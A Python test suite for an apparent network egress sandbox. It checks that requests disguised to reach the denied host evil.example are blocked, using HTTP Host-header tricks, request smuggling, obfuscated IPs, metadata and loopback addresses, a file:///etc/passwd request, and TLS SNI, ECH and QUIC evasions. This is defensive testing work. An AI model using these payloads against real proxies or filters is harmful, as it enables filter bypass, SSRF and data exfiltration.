# SPDX-License-Identifier: GPL-2.0-or-later
"""E-56 to E-76: saying one name and meaning another, in HTTP and in TLS."""

from lib import tlsmsg, zone
from lib.bubble import TMP
from lib.case import Cases, expect, expect_eq, fill, quickly, token
from lib.commands import attempt, curl, probe, python, tls

CASES = Cases()

GOOD = ["--allow", "good.example", "--allow", "good.example:80"]
UPSTREAM = [("udp", zone.DNS4, 53)]
TO_GOOD = [*UPSTREAM, *(("tcp", a, p) for a in zone.both(10) for p in (80, 443))]


def request(*lines, to="good.example", body=""):
    """Exactly these lines, each ended by CR LF unless it says otherwise."""
    return probe("raw", to, 80, "".join(line if line.endswith("\\n") else line + "\\r\\n"
                                        for line in lines) + "\\r\\n" + body)


# --- E-56: plain http is held to the same rules as everything else.
CASES.deny("E-56 http to a denied name", GOOD, curl("http://evil.example/{tok}"))
CASES.deny("E-56 http to a denied name on another port", GOOD,
           curl("http://evil.example:8080/{tok}"))

# --- E-57: one request, several ideas of where it goes. None of it may reach the server.
H, EVIL = "Host: good.example", "Host: evil.example"
for what, lines in {
    "Host of another": ("GET /{tok} HTTP/1.1", EVIL),
    "absolute form, Host of another": ("GET http://good.example/{tok} HTTP/1.1", EVIL),
    "absolute form of another": ("GET http://evil.example/{tok} HTTP/1.1", H),
    "absolute form https": ("GET https://evil.example/{tok} HTTP/1.1", H),
    "absolute form with user information": ("GET http://good.example@evil.example/{tok} HTTP/1.1",
                                            H),
    "two Hosts": ("GET /{tok} HTTP/1.1", H, EVIL),
    "two Hosts, turned": ("GET /{tok} HTTP/1.1", EVIL, H),
    "the same Host twice": ("GET /{tok} HTTP/1.1", H, H),
    "two names in one Host": ("GET /{tok} HTTP/1.1", "Host: good.example, evil.example"),
    "Host with user information": ("GET /{tok} HTTP/1.1", "Host: good.example@evil.example"),
    "Host with a path": ("GET /{tok} HTTP/1.1", "Host: good.example/evil.example"),
    "Host with another port": ("GET /{tok} HTTP/1.1", "Host: good.example:8080"),
    "Host with port 0x50": ("GET /{tok} HTTP/1.1", "Host: good.example:0x50"),
    "folded Host": ("GET /{tok} HTTP/1.1", "Host: good.example", " .evil.example"),
    "blank before the colon": ("GET /{tok} HTTP/1.1", "Host : evil.example", H),
    "field before a Host": ("GET /{tok} HTTP/1.1", " Host: evil.example", H),
    "no Host": ("GET /{tok} HTTP/1.1", "X: y"),
    "empty Host": ("GET /{tok} HTTP/1.1", "Host:"),
    "HTTP/1.0 without Host": ("GET /{tok} HTTP/1.0", "X: y"),
    "HTTP/0.9": ("GET /{tok}",),
    "X-Forwarded-Host instead": ("GET /{tok} HTTP/1.1", "X-Forwarded-Host: good.example"),
    # E-65: addresses in disguise.
    "Host 2130706433": ("GET /{tok} HTTP/1.1", "Host: 2130706433"),
    "Host 0x7f.1": ("GET /{tok} HTTP/1.1", "Host: 0x7f.1"),
    "Host 127.1": ("GET /{tok} HTTP/1.1", "Host: 127.1"),
    "Host [::1]": ("GET /{tok} HTTP/1.1", "Host: [::1]"),
    "Host [::ffff:7f00:1]": ("GET /{tok} HTTP/1.1", "Host: [::ffff:7f00:1]"),
    # E-67: bytes on which two readers differ.
    "Host with NUL": ("GET /{tok} HTTP/1.1", "Host: good.example\\x00.evil.example"),
    "Host with #": ("GET /{tok} HTTP/1.1", "Host: evil.example#good.example"),
    "Host with %00": ("GET /{tok} HTTP/1.1", "Host: evil.example%00.good.example"),
    "Host with %2e": ("GET /{tok} HTTP/1.1", "Host: good%2eexample"),
    "Host with a tab": ("GET /{tok} HTTP/1.1", "Host: good.example\\tevil.example"),
    "Host with a backslash": ("GET /{tok} HTTP/1.1", "Host: evil.example\\\\good.example"),
    "Host with UTF-8": ("GET /{tok} HTTP/1.1", "Host: good\\xe3\\x80\\x82example"),
    "Host with two dots": ("GET /{tok} HTTP/1.1", "Host: good..example"),
    "Host with two dots at the end": ("GET /{tok} HTTP/1.1", "Host: good.example.."),
    # E-68: names that only look like it.
    "Host that begins like it": ("GET /{tok} HTTP/1.1", "Host: good.example.evil.example"),
    "Host that ends like it": ("GET /{tok} HTTP/1.1", "Host: evil-good.example"),
    "Host below it": ("GET /{tok} HTTP/1.1", "Host: www.good.example"),
    "Host with another letter for the dot": ("GET /{tok} HTTP/1.1", "Host: goodXexample"),
    # E-72: where one request ends and the next begins.
    "CL and TE": ("POST /{tok} HTTP/1.1", H, "Content-Length: 6", "Transfer-Encoding: chunked"),
    "TE and CL, turned": ("POST /{tok} HTTP/1.1", "Transfer-Encoding: chunked", "Content-Length: 3",
                          H),
    "CL twice": ("POST /{tok} HTTP/1.1", H, "Content-Length: 0", "Content-Length: 44"),
    "CL list": ("POST /{tok} HTTP/1.1", H, "Content-Length: 0, 44"),
    "CL with a sign": ("POST /{tok} HTTP/1.1", H, "Content-Length: +0"),
    "CL in hexadecimal": ("POST /{tok} HTTP/1.1", H, "Content-Length: 0x2c"),
    "CL that overflows": ("POST /{tok} HTTP/1.1", H, "Content-Length: 18446744073709551616"),
    "CL negative": ("POST /{tok} HTTP/1.1", H, "Content-Length: -1"),
    "TE with a tab": ("POST /{tok} HTTP/1.1", H, "Transfer-Encoding:\\tchunked, identity"),
    "TE unknown": ("POST /{tok} HTTP/1.1", H, "Transfer-Encoding: xchunked"),
    "TE chunked twice": ("POST /{tok} HTTP/1.1", H, "Transfer-Encoding: chunked",
                         "Transfer-Encoding: chunked"),
    "TE in HTTP/1.0": ("POST /{tok} HTTP/1.0", H, "Transfer-Encoding: chunked"),
    "TE with a blank before the colon": ("POST /{tok} HTTP/1.1", H, "Transfer-Encoding : chunked"),
    "bare LF": ("GET /{tok} HTTP/1.1\\n", "Host: good.example\\n", "X: y\\n"),
    "bare CR in a field": ("GET /{tok} HTTP/1.1", H, "X: a\\rHost: evil.example"),
    "NUL in the request line": ("GET /{tok}\\x00 HTTP/1.1", H),
    "two blanks in the request line": ("GET  /{tok} HTTP/1.1", H),
    # E-74, E-75: what a proxy could be talked into.
    "CONNECT to a denied name": ("CONNECT evil.example:443 HTTP/1.1", "Host: evil.example:443",
                                 "X: {tok}"),
    "CONNECT to a denied name, good Host": ("CONNECT evil.example:443 HTTP/1.1", H, "X: {tok}"),
    "CONNECT to loopback": ("CONNECT 127.0.0.1:15432 HTTP/1.1", H, "X: {tok}"),
    "CONNECT to itself": ("CONNECT good.example:80 HTTP/1.1", "Host: good.example:80", "X: {tok}"),
    "urn:": ("GET urn:x:{tok} HTTP/1.1", H), "ftp:": ("GET ftp://good.example/{tok} HTTP/1.1", H),
    "file:": ("GET file:///etc/passwd?{tok} HTTP/1.1", H),
    "HTTP/2 preface": ("PRI * HTTP/2.0", H, "X: {tok}"),
    "HTTP/9.9": ("GET /{tok} HTTP/9.9", H),
}.items():
    CASES.case(f"E-57 {what}")(lambda t, c=request(*lines): not_served(t, c))


def not_served(t, command):
    """Nothing of the request leaves; the client is told at once."""
    tok, marks = token(), t.marks()
    result = quickly(lambda: t.jail(*GOOD)(fill(command, tok)))
    expect(not t.seen(marks, tok), f"{tok} arrived", result)
    leaks = t.leaks(marks, UPSTREAM)
    expect(not leaks, f"packets left: {leaks}", result)
    expect_eq(result.status, 1, "exit status", result)


# --- What is inside bodies and behind requests, on a connection that began well.
SMUGGLED = "GET /{tok} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
FIRST = "GET /first HTTP/1.1\\r\\nHost: good.example\\r\\n"
for what, text in {
    "behind a GET": FIRST + "\\r\\n" + SMUGGLED,
    "behind a GET with blank lines": FIRST + "\\r\\n\\r\\n\\r\\n" + SMUGGLED,
    "behind a chunked body": FIRST.replace("GET", "POST") + "Transfer-Encoding: chunked\\r\\n\\r\\n"
                             "3\\r\\nabc\\r\\n0\\r\\n\\r\\n" + SMUGGLED,
    "behind chunked trailers": FIRST.replace("GET",
                                             "POST") + "Transfer-Encoding: chunked\\r\\n\\r\\n"
                               "0\\r\\nX: y\\r\\n\\r\\n" + SMUGGLED,
    "behind a chunk extension": FIRST.replace("GET",
                                              "POST") + "Transfer-Encoding: chunked\\r\\n\\r\\n"
                                "0;x=\\n\\r\\n" + SMUGGLED,
    "behind a chunk of wrong length": FIRST.replace("GET",
                                                    "POST") + "Transfer-Encoding: chunked\\r\\n"
                                      "\\r\\n3\\r\\nabcd\\r\\n0\\r\\n\\r\\n" + SMUGGLED,
    "behind a chunk size with a sign": FIRST.replace("GET",
                                                     "POST") + "Transfer-Encoding: chunked\\r\\n"
                                       "\\r\\n+0\\r\\n\\r\\n" + SMUGGLED,
    "behind a chunk size that overflows": FIRST.replace("GET",
                                                        "POST") + "Transfer-Encoding: chunked"
                                          "\\r\\n\\r\\n10000000000000000\\r\\n\\r\\n" + SMUGGLED,
    "behind a body": FIRST.replace("GET", "POST") + "Content-Length: 3\\r\\n\\r\\nabc" + SMUGGLED,
    "behind an Upgrade that is not taken": FIRST + "Connection: Upgrade\\r\\nUpgrade: h2c\\r\\n"
                                           "\\r\\n" + SMUGGLED,
    "behind Expect": FIRST.replace("GET",
                                   "POST") + "Expect: 100-continue\\r\\nContent-Length: 0\\r\\n"
                     "\\r\\n" + SMUGGLED,
    "behind HEAD": FIRST.replace("GET", "HEAD") + "\\r\\n" + SMUGGLED,
}.items():
    @CASES.case(f"E-72 a request for another name {what}")
    def _smuggled(t, text=text):
        tok, marks = token(), t.marks()
        result = t.jail(*GOOD)(fill(probe("raw", "good.example", 80, text), tok))
        expect(not t.seen(marks, tok), f"{tok} arrived", result)
        leaks = t.leaks(marks, TO_GOOD)
        expect(not leaks, f"packets left: {leaks}", result)

# --- E-58, E-59, E-61, E-63: TLS.
CASES.deny("E-58 good SNI to a denied address", GOOD, probe(
    "tls", zone.v4(66), 443, "good.example", "good.example", "/{tok}", f"{TMP}/ca.pem"))
CASES.deny("E-58 good SNI to a denied address, IPv6", GOOD, probe(
    "tls", zone.v6(66), 443, "good.example", "good.example", "/{tok}", f"{TMP}/ca.pem"))
CASES.deny("E-58 good Host to a denied address", GOOD, request(
    "GET /{tok} HTTP/1.1", H, "Connection: close", to=zone.v4(66)))
CASES.deny("E-58 good name resolved elsewhere", GOOD, curl(
    "https://good.example/{tok}", "--resolve", f"good.example:443:{zone.v4(66)}", "-k"))
CASES.deny("E-59 SNI of another name", GOOD, tls("good.example", "evil.example"), UPSTREAM)
CASES.deny("E-61 no SNI", GOOD, tls("good.example", "-", "good.example"), UPSTREAM)
CASES.deny("E-61 SNI is an address", GOOD, tls("good.example", zone.v4(10)), UPSTREAM,
           control=False)

SEND = """
import socket, sys
s = socket.create_connection(('good.example', 443), 3)
s.sendall(open(sys.argv[1], 'rb').read())
reply = s.recv(4096)
sys.exit(0 if reply[:1] == b'\\x16' else 1)
"""
HELLOS = {
    "E-61 ssh on 443": lambda: b"SSH-2.0-client\r\n",
    "E-61 SSLv2 hello": lambda: bytes([0x80, 0x2e, 1, 3, 1, 0, 0x15, 0, 0, 0, 0x10]) + bytes(40),
    "E-63 ECH with the allowed outer name": lambda: tlsmsg.with_ech(
        tlsmsg.client_hello("good.example")),
    "E-63 ECH that is empty": lambda: tlsmsg.with_extension(
        tlsmsg.client_hello("good.example"), tlsmsg.ECH, b""),
    "E-63 ESNI of the draft": lambda: tlsmsg.with_extension(
        tlsmsg.client_hello("evil.example"), 0xFFCE, bytes(200)),
    "E-67 SNI with NUL": lambda: tlsmsg.with_names(
        tlsmsg.client_hello("good.example"), b"good.example\0.evil.example"),
    "E-67 SNI of two names": lambda: tlsmsg.with_names(
        tlsmsg.client_hello("good.example"), b"good.example", b"evil.example"),
    "E-67 SNI of two names, turned": lambda: tlsmsg.with_names(
        tlsmsg.client_hello("good.example"), b"evil.example", b"good.example"),
    "E-67 SNI empty": lambda: tlsmsg.with_names(tlsmsg.client_hello("good.example"), b""),
    "E-68 SNI that begins like it": lambda: tlsmsg.client_hello("good.example.evil.example"),
    "E-68 SNI below it": lambda: tlsmsg.client_hello("www.good.example"),
    "SNI of another, in records of one byte": lambda: tlsmsg.in_records(
        tlsmsg.client_hello("evil.example"), 1),
    "SNI of another, behind 60 KiB of an unknown extension": lambda: tlsmsg.in_records(
        tlsmsg.with_extension(tlsmsg.client_hello("evil.example"), 0x5A5A, bytes(40000)), 16000),
}
for what, make in HELLOS.items():
    @CASES.case(what)
    def _hello(t, make=make):
        path = f"{t.world.work}/hello"
        with open(path, "wb") as f:
            f.write(make())
        marks = t.marks()
        result = t.jail(*GOOD)(python(SEND, path))
        leaks = t.leaks(marks, UPSTREAM)
        expect(not leaks, f"packets left: {leaks}", result)
        expect_eq(result.status, 1, "exit status", result)

# --- E-64: QUIC.
for family, address in (("IPv4", zone.v4(10)), ("IPv6", zone.v6(10))):
    CASES.deny(f"E-64 QUIC to an allowed name's address, {family}", GOOD,
               attempt("udp", address, 443, "{tok}"))
CASES.deny("E-64 QUIC to an allowed name", GOOD, probe("udp", "good.example", 443, "{tok}"),
           UPSTREAM)

# --- E-65: addresses that getaddrinfo knows how to read.
for form in ("3405803842", "0xcb.0x71.0x71.0x42", "0313.0161.0161.0102", "203.0.28994",
             "203.7434306", "0xcb007142"):
    CASES.deny(f"E-65 {form}", GOOD, probe("tcp", form, 999, "{tok}"))
for form in ("2130706433", "127.1", "0x7f.1", "0", "017700000001"):
    CASES.deny(f"E-65 {form} is this machine's loopback", GOOD,
               probe("tcp", form, zone.PORT_LOOPBACK, "{tok}"))

# --- E-66: ranges that a name or `any` never opens.
for address in ("10.99.0.1", "172.30.99.1", "192.168.99.1", "100.64.99.1", "169.254.169.254",
                "100.100.100.200", "198.18.200.1", "240.0.0.1", "fd77:99::1", "64:ff9b::a63:1",
                "2002:a63:1::1", "2001:0:99::1", "fd00:ec2::254"):
    CASES.deny(f"E-66 {address} with any:*", ["--allow", "any:*", "--allow", "*:*"],
               attempt("tcp", address, 999, "{tok}"))
    CASES.deny(f"E-66 {address} with udp/any", ["--allow", "udp/any"],
               attempt("udp", address, 999, "{tok}"), fast=None)


# --- E-70: a redirect is an answer like any other.
@CASES.case("E-70 redirects are not followed on the client's behalf")
def _redirect(t):
    marks = t.marks()
    result = t.jail(*GOOD)(curl("http://good.example/redirect/evil.example", "-L"))
    leaks = t.leaks(marks, TO_GOOD)
    expect(not leaks, f"packets left: {leaks}", result)
    expect(result.status != 0, "the redirect was followed", result)


@CASES.case("E-70 a redirect to a metadata address")
def _redirect_metadata(t):
    marks = t.marks()
    result = t.jail(*GOOD)(curl("http://good.example/redirect/169.254.169.254", "-L"))
    expect(not t.leaks(marks, TO_GOOD), "packets left", result)
    expect(result.status != 0, "the redirect was followed", result)


# --- E-68: rules that would match too much are mistakes, not rules.
for rule in ("*foo.example", "foo.*", "*.com", "*.co.uk", "f*o.example", "*.*.example",
             "**.example",
             "good.example/path", "http://good.example", "good example", ".good.example",
             "good..example"):
    @CASES.case(f"E-68 the rule {rule} is refused")
    def _rule(t, rule=rule):
        result = t.jail("--allow", rule)(["true"])
        expect_eq(result.status, 2, "exit status", result)
        expect(rule in result.err, "the message does not say what was read", result)
